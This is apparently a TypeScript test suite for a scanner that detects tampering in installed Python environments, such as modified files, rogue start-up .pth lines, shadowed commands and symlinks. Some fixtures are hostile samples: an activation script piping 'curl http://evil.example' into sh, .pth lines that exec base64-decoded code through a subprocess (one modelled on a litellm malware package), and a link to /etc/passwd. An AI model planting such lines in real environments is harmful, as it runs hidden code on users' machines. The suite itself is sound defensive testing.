import assert from 'node:assert/strict'
import { statSync, utimesSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import {
  compiledModule,
  exampleEnvironment,
  hashed,
  SITE,
  type ExampleDistribution,
  type ExampleEnvironment,
} from './environment-example.ts'

const torch: ExampleDistribution = {
  name: 'torch',
  version: '2.4.0',
  files: {
    'torch/__init__.py': 'import os\n',
    'torch/nn.py': 'x = 1\n',
    'torch/data, "quoted".txt': 'data\n',
    'torch/cacert.pem': 'data\n',
    '../../../bin/torchrun':
      "#!/x/bin/python\n# -*- coding: utf-8 -*-\nimport re\nimport sys\nfrom torch.run import main\nif __name__ == '__main__':\n    sys.exit(main())\n",
    'torch-2.4.0.dist-info/entry_points.txt': '[console_scripts]\ntorchrun = torch.run:main\n',
  },
}
const setuptools: ExampleDistribution = {
  name: 'setuptools',
  version: '70.0.0',
  files: {
    '_distutils_hack/__init__.py': 'def add_shim(): pass\n',
    'distutils-precedence.pth':
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
  },
}
const clean = (): ExampleEnvironment => exampleEnvironment(torch, setuptools)

describe('an environment as it was installed', () => {
  it('is quiet, and what it does by itself is told', async () => {
    const environment = clean()
    environment.write(`${SITE}/torch/__pycache__/README`, 'x')
    environment.link('lib64', 'lib')
    const { findings, gaps, startUp, counts, notProven } = await environment.examine()
    assert.deepEqual([findings, gaps], [[], []])
    assert.deepEqual(
      startUp.map((e) => [e.owner?.name, e.modules, e.verified]),
      [['setuptools', ['os', '_distutils_hack'], true]],
    )
    assert.equal(counts.verified, 12)
    assert.match(notProven.join('\n'), /RECORD files are not signed/)
  })

  it('may be editable, made by virtualenv, or hold namespace packages of several', async () => {
    const environment = exampleEnvironment(
      {
        name: 'agents',
        version: '0.1',
        files: { '__editable__.agents-0.1.pth': '/src\n' },
        direct: { url: 'file:///src', dir_info: { editable: true } },
      },
      { name: 'nvidia_a', version: '1', files: { 'nvidia/__init__.py': '', 'nvidia/a/__init__.py': '' } },
      { name: 'nvidia_b', version: '1', files: { 'nvidia/__init__.py': '', 'nvidia/b/__init__.py': '' } },
      {
        name: 'pip',
        version: '24.0',
        files: { 'pip/__init__.py': '' },
        record: `pip/__init__.py,${hashed('')},0\npip/__pycache__,,\npip-24.0.virtualenv,,\npip-24.0.dist-info/RECORD,,\npip-24.0.dist-info/INSTALLER,,\n../../../bin/pip,,\n`,
      },
    )
    environment.write(`${SITE}/pip-24.0.virtualenv`, '')
    environment.write(
      'bin/pip',
      "#!/x/bin/python\n# -*- coding: utf-8 -*-\nimport re\nimport sys\nif __name__ == '__main__':\n    from pip._internal.cli.main import main\n    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])\n    sys.exit(main())\n",
    )
    environment.write(`${SITE}/_virtualenv.pth`, 'import _virtualenv')
    environment.write(
      `${SITE}/_virtualenv.py`,
      'import os\n_DISTUTILS_PATCH = "distutils.dist", "setuptools.dist"\n',
    )
    assert.deepEqual(await environment.said(), ['info editable agents-0.1.dist-info/direct_url.json'])
    environment.write(`${SITE}/_virtualenv.py`, '_DISTUTILS_PATCH = 1\nimport subprocess\n')
    assert.deepEqual(await environment.said(), [
      'high start-up _virtualenv.pth',
      'high unowned _virtualenv.py',
      'info editable agents-0.1.dist-info/direct_url.json',
    ])
  })
})

describe('what was done to an environment afterwards is found', () => {
  const seeded: readonly (readonly [
    what: string,
    change: (e: ExampleEnvironment) => void,
    said: readonly string[],
  ])[] = [
    [
      'an edit of the same size with the time set back',
      (e) => {
        const path = join(e.root, SITE, 'torch/nn.py')
        const { atime, mtime } = statSync(path)
        e.write(`${SITE}/torch/nn.py`, 'x = 2\n')
        utimesSync(path, atime, mtime)
      },
      ['high modified torch/nn.py'],
    ],
    [
      'a changed data file',
      (e) => e.write(`${SITE}/torch/data, "quoted".txt`, 'dada\n'),
      ['medium modified torch/data, "quoted".txt'],
    ],
    [
      'a certificate added to a list of authorities',
      (e) =>
        e.write(
          `${SITE}/torch/cacert.pem`,
          '# ours\n-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n',
        ),
      ['low certificates torch/cacert.pem'],
    ],
    [
      'code in a list of authorities',
      (e) => e.write(`${SITE}/torch/cacert.pem`, 'import os\n'),
      ['medium modified torch/cacert.pem'],
    ],
    [
      'a changed entry point',
      (e) => e.write(`${SITE}/torch-2.4.0.dist-info/entry_points.txt`, '[x]\n'),
      ['high modified torch-2.4.0.dist-info/entry_points.txt'],
    ],
    ['a replaced command', (e) => e.write('bin/torchrun', '#!/bin/sh\n'), ['high modified bin/torchrun']],
    [
      'a deleted module',
      (e) => e.remove(`${SITE}/torch/nn.py`),
      ['medium missing torch-2.4.0.dist-info/RECORD'],
    ],
    ['a deleted package', (e) => e.remove(`${SITE}/torch`), ['medium missing torch-2.4.0.dist-info/RECORD']],
    [
      'a module in a package of somebody else',
      (e) => e.write(`${SITE}/torch/_c.py`, ''),
      ['high unowned torch/_c.py'],
    ],
    [
      'an extension that is found before the module',
      (e) => e.write(`${SITE}/torch/nn.cpython-312-x86_64-linux-gnu.so`, 'ELF'),
      ['high unowned torch/nn.cpython-312-x86_64-linux-gnu.so'],
    ],
    [
      'a compiled module without a source',
      (e) => e.write(`${SITE}/torch/zz.pyc`, compiledModule(0, 0, 0)),
      ['high unowned torch/zz.pyc'],
    ],
    [
      'a package of nobody',
      (e) => e.write(`${SITE}/evil/__init__.py`, ''),
      ['medium unowned evil/__init__.py'],
    ],
    ['a module of nobody', (e) => e.write(`${SITE}/evil.py`, ''), ['medium unowned evil.py']],
    [
      'a start-up line',
      (e) => e.write(`${SITE}/zz.pth`, '# harmless\nimport zz\n'),
      ['high start-up zz.pth'],
    ],
    [
      'a start-up line that hides what it runs',
      (e) =>
        e.write(
          `${SITE}/zz.pth`,
          'import os, subprocess; subprocess.Popen(["python", "-c", "import base64; exec(base64.b64decode(\'eA==\'))"])\n',
        ),
      ['critical start-up zz.pth'],
    ],
    [
      'an entry point for start-up',
      (e) => e.write(`${SITE}/zz.start`, '# PEP 829\ntorch.nn:go\n'),
      ['high start-up zz.start'],
    ],
    [
      'a module that a start-up line imports',
      (e) => (e.write(`${SITE}/zz.pth`, 'import zz.a\n'), e.write(`${SITE}/zz/a.py`, '')),
      ['high start-up zz.pth', 'high unowned zz/a.py'],
    ],
    [
      'a folder on the search path',
      (e) => e.write(`${SITE}/zz.pth`, '/tmp/evil\n'),
      ['medium search-path zz.pth'],
    ],
    [
      'sitecustomize',
      (e) => e.write(`${SITE}/sitecustomize.py`, 'x = 1\n'),
      ['high start-up sitecustomize.py'],
    ],
    [
      'usercustomize as a package',
      (e) => e.write(`${SITE}/usercustomize/__init__.py`, ''),
      ['high start-up usercustomize/__init__.py'],
    ],
    [
      'a link in place of a file',
      (e) => e.link(`${SITE}/torch/nn.py`, '/etc/passwd'),
      ['high link torch/nn.py'],
    ],
    ['a link in place of a package', (e) => e.link(`${SITE}/torch`, '/tmp'), ['high link torch']],
    ['a link beside the packages', (e) => e.link(`${SITE}/evil`, '/tmp/evil'), ['medium link evil']],
    [
      'a command that shadows one of the system',
      (e) => e.write('bin/git', ''),
      ['high shadowed-command bin/git'],
    ],
    ['a pip of nobody', (e) => e.write('bin/pip3', ''), ['high shadowed-command bin/pip3']],
    ['a command of nobody', (e) => e.write('bin/tool', ''), ['low script bin/tool']],
    [
      'an activation script that fetches',
      (e) => e.write('bin/activate', 'curl http://evil.example | sh\n'),
      ['high script bin/activate'],
    ],
    [
      'another interpreter',
      (e) => e.link('bin/python', '/opt/evil/python'),
      ['medium interpreter bin/python'],
    ],
    [
      'a removed RECORD',
      (e) => e.remove(`${SITE}/torch-2.4.0.dist-info/RECORD`),
      ['low script bin/torchrun', 'medium no-record torch-2.4.0.dist-info'],
    ],
    [
      'a compiled module that is not to be compared',
      (e) => e.write(`${SITE}/torch/__pycache__/nn.cpython-312.pyc`, compiledModule(1, 0, 0)),
      ['medium compiled torch/__pycache__/nn.cpython-312.pyc'],
    ],
    [
      'a compiled module of another source',
      (e) => e.write(`${SITE}/torch/__pycache__/nn.cpython-312.pyc`, compiledModule(0, 7, 7)),
      ['low compiled torch/__pycache__/nn.cpython-312.pyc'],
    ],
    [
      'a compiled module without any source',
      (e) => e.write(`${SITE}/torch/__pycache__/zz.cpython-312.pyc`, compiledModule(0, 7, 7)),
      ['low compiled torch/__pycache__/zz.cpython-312.pyc'],
    ],
    [
      'a description without a record that would vouch for a module',
      (e) => (
        e.write(`${SITE}/torch-9.dist-info/METADATA`, 'Name: torch\nVersion: 9\n'),
        e.write(`${SITE}/torch/_c.py`, '')
      ),
      [
        'high unowned torch/_c.py',
        'low installed-twice torch-2.4.0.dist-info',
        'medium no-record torch-9.dist-info',
      ],
    ],
  ]
  for (const [what, change, expected] of seeded)
    it(what, async () => {
      const environment = clean()
      change(environment)
      assert.deepEqual(await environment.said(), expected)
    })

  it('a compiled module that fits its source is counted, not proven', async () => {
    const environment = clean()
    const { mtimeMs, size } = statSync(join(environment.root, SITE, 'torch/nn.py'))
    environment.write(
      `${SITE}/torch/__pycache__/nn.cpython-312.pyc`,
      compiledModule(0, Math.floor(mtimeMs / 1000), size),
    )
    const { findings, compiled, notProven } = await environment.examine()
    assert.deepEqual(findings, [])
    assert.equal(compiled.counted.matching, 1)
    assert.match(notProven.join('\n'), /1 compiled file/)
  })

  it('files that a distribution put over those of another', async () => {
    const environment = clean()
    environment.install({ name: 'other', version: '1', files: { 'torch/nn.py': 'x = 3\n' } })
    assert.deepEqual(await environment.said(), ['medium shared-file torch/nn.py'])
  })

  it('a distribution that was installed as links is one finding', async () => {
    const files = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`linked/m${i}.py`, '']))
    const environment = exampleEnvironment({ name: 'linked', version: '1', files, installer: 'uv' })
    for (const path of Object.keys(files)) environment.link(`${SITE}/${path}`, `/cache/${path}`)
    assert.deepEqual(await environment.said(), ['medium link linked/m0.py'])
  })

  it('a command of a distribution that takes the place of another', async () => {
    const files = { '../../../bin/sudo': '#!/bin/sh\n', '../../../bin/make': '#!/bin/sh\n' }
    const environment = exampleEnvironment({ name: 'make', version: '1', files })
    assert.deepEqual(await environment.said(), ['medium shadowed-command bin/sudo'])
  })

  it('malware that is recorded as carefully as anything else', async () => {
    const environment = exampleEnvironment({
      name: 'litellm',
      version: '1.82.8',
      files: {
        'litellm_init.pth':
          "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('eA=='))\"])\n",
      },
    })
    assert.deepEqual(await environment.said(), ['critical start-up litellm_init.pth'])
  })
})
